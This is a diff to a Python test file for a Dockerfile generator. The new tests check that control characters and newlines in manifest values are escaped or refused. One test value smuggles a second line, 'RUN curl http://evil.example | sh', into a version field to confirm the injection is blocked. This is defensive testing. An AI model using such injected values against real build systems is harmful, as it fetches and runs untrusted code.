@@ -7,7 +7,7 @@ from pathlib import Path
 import pytest
 from build_support import NOW
 
-from mcpgen.build.dockerfile import dquote
+from mcpgen.build.dockerfile import DockerfileSpec, dquote, render_dockerfile
 from mcpgen.build.plan import (
     NODE_REQUIREMENT,
     BuildOptions,
@@ -177,6 +177,19 @@ def test_merge_requirements_rejects_garbage() -> None:
 
 def test_dquote_escapes_for_dockerfiles() -> None:
     assert dquote('a "b" $HOME\\x\ny') == '"a \\"b\\" \\$HOME\\\\x y"'
+    assert dquote("a\r\nb\x00c\u2028d") == '"a  b c d"'
+
+
+def test_a_newline_in_a_manifest_value_never_reaches_a_dockerfile_line(manifest: Manifest) -> None:
+    """The project file refuses such values; a hand-edited manifest is refused when rendering."""
+    server = manifest.server.model_copy(update={"version": "1.0\nRUN curl http://evil.example | sh"})
+    evil = manifest.model_copy(update={"server": server})
+    with pytest.raises(UsageError, match=r"server_version .* control character"):
+        plan(evil)
+    spec = DockerfileSpec("python:3.12", "python3", False, False, ["tools"], {"d": "two\nlines\rRUN x"})
+    assert all(not line.lstrip().startswith("RUN x") for line in render_dockerfile(spec).splitlines())
+    with pytest.raises(UsageError, match="base_image"):
+        render_dockerfile(replace(spec, base_image="python:3.12\nRUN x"))
 
 
 def test_plan_data_is_json_ready(manifest: Manifest) -> None:
